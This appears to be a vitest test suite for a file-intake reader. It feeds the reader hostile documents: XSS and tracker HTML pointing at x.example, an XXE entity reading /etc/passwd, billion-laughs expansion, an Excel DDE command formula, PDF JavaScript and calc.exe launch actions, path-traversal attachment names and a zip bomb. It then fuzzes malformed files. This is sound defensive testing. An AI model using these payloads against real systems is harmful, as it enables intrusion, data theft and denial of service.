import { gzipSync, strToU8, unzipSync, zipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { type Dice, diceOf } from '../../../engine/testing/letters';
import { bentBytes, pollution } from '../../../engine/testing/mutations';
import { bentLetter } from '../../../engine/testing/mutations-text';
import { lyingZip, zipOfEntries } from '../../../engine/testing/mutations-zip';
import { trialsOf } from '../../../engine/testing/trials';
import { inbox } from '../../screens/orders/inbox/inbox.text';
import type { ReadDocument } from './document';
import { LIMITS } from './plain-text';
import { readFile, type Taken } from './read-file';
import {
  enclosure,
  mail,
  markupMail,
  paragraph,
  pdfFile,
  utf8,
  wordFile,
  wordTable,
  workbook,
} from './testing/files';
import { expectNoRequests } from './testing/network';

/** Documents tried; all of them by `npm run soak -- intake`. */
const DOCUMENTS = trialsOf({ small: 40, middle: 80, full: 4000 });

expectNoRequests();

const ran: unknown[] = [];
beforeEach(() => {
  ran.length = 0;
  vi.stubGlobal('alert', (words: unknown) => ran.push(words));
});
afterEach(() => {
  expect({ ran, pollution: pollution() }).toEqual({ ran: [], pollution: [] });
});

const ROWS = [
  ['Nr.', 'Position alt', 'Zugbefehl', 'Befehl'],
  ['101', '210/19', '-20-21', 'KVE'],
] as const;

const TRACKERS = `<html><head><meta http-equiv="refresh" content="0;url=http://x.example/r">
<base href="http://x.example/"><link rel="stylesheet" href="http://x.example/a.css">
<style>@import url(http://x.example/b.css); p{background:url(http://x.example/c.png)}</style></head>
<body onload="alert(1)" background="http://x.example/d.png">
<img src="http://x.example/pixel.gif" onerror="alert(2)"><script>alert(3)</script>
<p style="background:url('http://x.example/e.png')">101 210/19 -20 KVE</p>
<form action="http://x.example/f"><input autofocus onfocus="alert(4)"></form>
<iframe src="javascript:alert(5)"></iframe><iframe srcdoc="<script>alert(6)</script>"></iframe>
<a href="javascript:alert(7)">hier</a><a href="data:text/html,<script>alert(8)</script>">dort</a>
<svg onload="alert(9)"><foreignObject><img src=x onerror=alert(10)></foreignObject></svg>
<object data="http://x.example/g"></object><embed src="http://x.example/h">
<video src="http://x.example/i" poster="http://x.example/j"></video><math><mi xlink:href="javascript:alert(11)">x</mi></math></body></html>`;

const ENTITIES = `<!DOCTYPE lolz [<!ENTITY a "lol">${Array.from(
  { length: 12 },
  (_, index) =>
    `<!ENTITY ${String.fromCharCode(98 + index)} "${`&${String.fromCharCode(97 + index)};`.repeat(10)}">`,
).join('')}<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://x.example/net">]>`;

const RELATIONS = [
  ['image', 'http://x.example/pixel.png'],
  ['attachedTemplate', 'http://x.example/macro.dotm'],
  ['oleObject', 'file:///c:/windows/calc.exe'],
  ['hyperlink', 'javascript:alert(1)'],
  ['frame', 'http://x.example/frame.html'],
]
  .map(
    ([kind = '', target = ''], index) =>
      `<Relationship Id="h${String(index)}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/>`,
  )
  .join('');

const wordParts = (change: (xml: string) => string): Uint8Array => {
  const parts: Record<string, Uint8Array> = unzipSync(wordFile(paragraph('101 210/19 -20 KVE')));
  const xml = new TextDecoder().decode(parts['word/document.xml']);
  return zipSync({ ...parts, 'word/document.xml': utf8(change(xml)) });
};

/** A PDF of objects as they are given, without a table of where they lie. */
const rawPdf = (...objects: readonly string[]): Uint8Array =>
  utf8(
    `%PDF-1.7\n${objects.map((object, index) => `${String(index + 1)} 0 obj\n${object}\nendobj\n`).join('')}trailer\n<< /Size 9999999 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`,
  );

/** A mail in a mail in a mail, each enclosed by this type. */
const nestedMail = (depth: number, type: string): Uint8Array =>
  utf8(
    Array.from({ length: depth }).reduce<string>(
      (inner, _, n) =>
        `From: a@b\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b${String(n)}"\r\n\r\n--b${String(n)}\r\n\r\n${String(n)} 210/19\r\n--b${String(n)}\r\nContent-Type: ${type}; name="${String(n)}.eml"\r\nContent-Disposition: attachment; filename="${String(n)}.eml"\r\n\r\n${inner}\r\n--b${String(n)}--\r\n`,
      'From: a@b\r\nMIME-Version: 1.0\r\n\r\n101 210/19',
    ),
  );

const sheetParts = (sheet: string, more: Record<string, Uint8Array> = {}): Uint8Array => {
  const parts: Record<string, Uint8Array> = unzipSync(workbook({ A: [['a']] }));
  const rows = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${sheet}</sheetData></worksheet>`;
  return zipSync({ ...parts, ...more, 'xl/worksheets/sheet1.xml': utf8(rows) });
};

const millionCells = (): Uint8Array =>
  sheetParts(`<row>${'<c><v>1</v></c>'.repeat(1000)}</row>`.repeat(1000));

const sharedText = (): Uint8Array =>
  sheetParts('<row><c t="s"><v>0</v></c></row>'.repeat(1000), {
    'xl/sharedStrings.xml': utf8(
      `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>${'x'.repeat(100_000)}</t></si></sst>`,
    ),
  });

/** An object of a PDF that holds a stream. */
const stream = (content: string, more = ''): string =>
  `<< ${more} /Length ${String(content.length)} >>\nstream\n${content}\nendstream`;

/** Documents written to do harm, by what they try. */
const HARM: readonly (readonly [string, string, Uint8Array])[] = [
  ['a page full of trackers and scripts', 'brief.html', utf8(TRACKERS)],
  ['a mail that is such a page', 'brief.eml', markupMail(TRACKERS)],
  [
    'a mail with a head of a megabyte',
    'kopf.eml',
    utf8(`From: a@b\r\nX-Long: ${'x'.repeat(1_000_000)}\r\nMIME-Version: 1.0\r\n\r\n101 210/19`),
  ],
  [
    'a mail with ten thousand heads',
    'koepfe.eml',
    utf8(`From: a@b\r\nMIME-Version: 1.0\r\n${'Received: x\r\n'.repeat(10_000)}\r\n101 210/19`),
  ],
  [
    'a mail in a code page nobody has',
    'code.eml',
    utf8(
      'From: a@b\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset="../../x"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=FF=FE=00 101 210/19',
    ),
  ],
  [
    'a mail of boundaries within boundaries',
    'grenzen.eml',
    utf8(
      `From: a@b\r\nMIME-Version: 1.0\r\n${Array.from({ length: 200 }, (_, n) => `Content-Type: multipart/mixed; boundary="b${String(n)}"\r\n\r\n--b${String(n)}\r\n`).join('')}`,
    ),
  ],
  ['a mail of 50 mails in each other', 'mails.eml', nestedMail(50, 'message/rfc822')],
  [
    'a mail of 50 mails in each other as files',
    'mails.eml',
    nestedMail(50, 'application/octet-stream'),
  ],
  [
    'a page of elements nested without end',
    'tief.html',
    utf8(`<html><body>${'<div>'.repeat(200_000)}101 210/19`),
  ],
  [
    'a page of styles opened anew in every paragraph',
    'stile.html',
    utf8(
      `<html><body>${Array.from({ length: 900 }, (_, n) => `<b id=x${String(n)}>`).join('')}${'<p>x</p>'.repeat(10_000)}`,
    ),
  ],
  [
    'enclosures named to lead elsewhere',
    'wege.eml',
    mail(
      '101 210/19',
      enclosure('../../../etc/cron.d/x', 'text/plain', utf8('101 210/19')),
      enclosure('__proto__', 'text/plain', utf8('102 210/19')),
      enclosure('a\u202etxt.exe', 'text/plain', utf8('103 210/19')),
    ),
  ],
  [
    'Word with links elsewhere',
    'links.docx',
    wordFile(paragraph('101 210/19'), RELATIONS, {
      'word/vbaProject.bin': utf8('x'),
      'word/embeddings/oleObject1.bin': utf8('x'),
    }),
  ],
  [
    'Word with entities that grow',
    'lachen.docx',
    wordParts((xml) => xml.replace('?>', `?>${ENTITIES}`).replace('101', '&m;&file;&net;101')),
  ],
  [
    'Word nested without end',
    'tief.docx',
    wordParts((xml) =>
      xml.replace('<w:body>', `<w:body>${'<w:sdt><w:sdtContent>'.repeat(20_000)}`),
    ),
  ],
  [
    'Word with a table in a table in a table',
    'tabelle.docx',
    wordFile(
      Array.from({ length: 40 }).reduce<string>(
        (inner) => `<w:tbl><w:tr><w:tc>${inner}</w:tc></w:tr></w:tbl>`,
        wordTable(ROWS),
      ),
    ),
  ],
  [
    'Excel with formulas and entities',
    'formel.xlsx',
    workbook({ A: [['=cmd|" /C calc"!A0', '=HYPERLINK("http://x.example")', 1e300]] }),
  ],
  [
    'Excel that claims a sheet without end',
    'weit.xlsx',
    (() => {
      const parts: Record<string, Uint8Array> = unzipSync(workbook({ A: [['a']] }));
      const sheet = new TextDecoder()
        .decode(parts['xl/worksheets/sheet1.xml'])
        .replace('r="A1"', 'r="XFD1048576"');
      return zipSync({ ...parts, 'xl/worksheets/sheet1.xml': utf8(sheet) });
    })(),
  ],
  ['Excel of a million cells', 'zellen.xlsx', millionCells()],
  ['Excel whose text is told a thousand times over', 'gleich.xlsx', sharedText()],
  ['a table of one endless line', 'zeile.csv', utf8(`a;b;c\n1;2;3\n${'x'.repeat(490_000)}`)],
  ['a table of one line beyond all', 'zeile.csv', utf8(`a;b;c\n1;2;3\n${'x;'.repeat(1_100_000)}`)],
  [
    'a table of many columns',
    'spalten.csv',
    utf8(`${'a;'.repeat(100_000)}\n${'1;'.repeat(100_000)}\n`),
  ],
  ['a table whose quotes never end', 'zitat.csv', utf8(`a;b\n"${'x;\n'.repeat(50_000)}`)],
  [
    'a PDF with script and a program to launch',
    'start.pdf',
    rawPdf(
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> /AA << /WC << /S /Launch /F (calc.exe) >> >> >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /AA << /O << /S /URI /URI (http://x.example) >> >> >>',
    ),
  ],
  [
    'a PDF whose pages are their own children',
    'kreis.pdf',
    rawPdf(
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9999999 /Parent 2 0 R >>',
    ),
  ],
  [
    'a PDF of billions of pages',
    'seiten.pdf',
    rawPdf('<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 2147483647 >>'),
  ],
  [
    'a PDF whose pictures hold each other',
    'bilder.pdf',
    rawPdf(
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R /Resources << /XObject << /A 5 0 R >> >> >>',
      stream('/A Do '.repeat(20)),
      stream(
        '/A Do '.repeat(20),
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 5 0 R >> >>',
      ),
    ),
  ],
  [
    'a PDF of a tree of pages of a thousand floors',
    'baum.pdf',
    rawPdf(
      '<< /Type /Catalog /Pages 2 0 R >>',
      ...Array.from(
        { length: 1000 },
        (_, n) =>
          `<< /Type /Pages /Kids [${String(n + 3)} 0 R] /Count 1 /Parent ${String(n + 1)} 0 R >>`,
      ),
      '<< /Type /Page /Parent 1001 0 R /MediaBox [0 0 100 100] >>',
    ),
  ],
  [
    'a PDF whose table of objects claims a million',
    'tabelle.pdf',
    utf8(
      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\nxref\n0 1000000\n${'0000000009 00000 n \n'.repeat(20)}trailer\n<< /Size 1000000 /Root 1 0 R >>\nstartxref\n57\n%%EOF\n`,
    ),
  ],
  [
    'text in overlong UTF-8',
    'lang.txt',
    Uint8Array.from([...utf8('101 210/19 '), 0xc0, 0xaf, 0xe0, 0x80, 0xaf, 0xf8, 0x88]),
  ],
  ['half of UTF-16', 'halb.txt', Uint8Array.from([0xff, 0xfe, 0x31, 0xd8, 0x31])],
  [
    'text that turns its direction',
    'umkehr.txt',
    utf8('101\u202e 91/012 \u2066KVE\u2069 \u200b\ufeff'),
  ],
  [
    'a bomb in a bomb',
    'bombe.docx',
    zipOfEntries([{ name: 'word/document.xml', bytes: new Uint8Array(70 * 1024 * 1024) }]),
  ],
  ['packed twice', 'gz.txt', gzipSync(gzipSync(strToU8('101 210/19')))],
];

const allDocuments = ({ document }: Taken): readonly ReadDocument[] => {
  const inner = (one: ReadDocument): readonly ReadDocument[] => [
    one,
    ...one.enclosed.flatMap(inner),
  ];
  return inner(document);
};

/** What is wrong with the handling of a document; nothing = taken whole, or refused in one sentence. */
const flawsOf = async (name: string, bytes: Uint8Array): Promise<readonly string[]> => {
  const before = bytes.slice();
  const taken = await readFile({ name, bytes });
  const isChanged = before.length !== bytes.length || before.some((byte, at) => byte !== bytes[at]);
  const problems = taken.ok ? taken.value.left : [taken.problem];
  const texts = taken.ok ? allDocuments(taken.value).map(({ text }) => text) : [];
  return [
    ...(isChanged ? ['its bytes are changed'] : []),
    ...problems.flatMap(({ code }) =>
      Object.hasOwn(inbox.refused, code) ? [] : [`no words: ${code}`],
    ),
    ...texts.filter((text) => text.length > LIMITS.characters).map(() => 'longer than allowed'),
    ...texts.filter((text) => text.includes('\0')).map(() => 'text with NUL'),
  ];
};

describe('documents written to do harm', () => {
  it.each(HARM)(
    '%s',
    async (_, name, bytes) => {
      expect(await flawsOf(name, bytes)).toEqual([]);
    },
    60_000,
  );
});

const GOOD: readonly (readonly [string, Uint8Array])[] = [
  ['zug.txt', utf8('Zugbefehl\r\n101\t210/19\t-20-21\tKVE\r\n')],
  ['zug.eml', mail('101 210/19 -20 KVE', enclosure('zug.txt', 'text/plain', utf8('102 210/19')))],
  ['brief.eml', markupMail(TRACKERS)],
  ['brief.html', utf8(TRACKERS)],
  ['zug.docx', wordFile(paragraph('Zugbefehl') + wordTable(ROWS), RELATIONS)],
  ['zug.xlsx', workbook({ A: ROWS, B: [['x', 1]] })],
  ['zug.csv', utf8('Nr.;Position alt;Zugbefehl\n101;210/19;"-20;21"\n')],
  ['zug.pdf', pdfFile([{ x: 50, y: 700, text: '101 210/19 -20 KVE' }])],
];

const bent = (dice: Dice, name: string, bytes: Uint8Array): Uint8Array => {
  if (/\.(docx|xlsx)$/.test(name) && dice.once(2)) {
    const parts: Record<string, Uint8Array> = { ...unzipSync(bytes) };
    const names = Object.keys(parts);
    const part = names[dice.below(names.length)] ?? '';
    parts[part] = bentBytes(dice, parts[part] ?? new Uint8Array());
    return lyingZip(dice, parts).bytes;
  }
  if (dice.once(2)) return bentBytes(dice, bytes);
  return utf8(bentLetter(dice, new TextDecoder('latin1').decode(bytes).split('\n')));
};

describe('documents malformed in every way', () => {
  it(
    `are taken whole or refused in one sentence (${DOCUMENTS.label})`,
    async () => {
      for (const seed of DOCUMENTS.seeds()) {
        const dice = diceOf(seed);
        const [name, bytes] = GOOD[dice.below(GOOD.length)] ?? ['', new Uint8Array()];
        const flaws = await flawsOf(name, bent(dice, name, bytes)).catch((error: unknown) => [
          `thrown: ${String(error)}`,
        ]);
        expect({ seed, flaws }).toEqual({ seed, flaws: [] });
      }
    },
    4 * 60 * 60_000,
  );
});
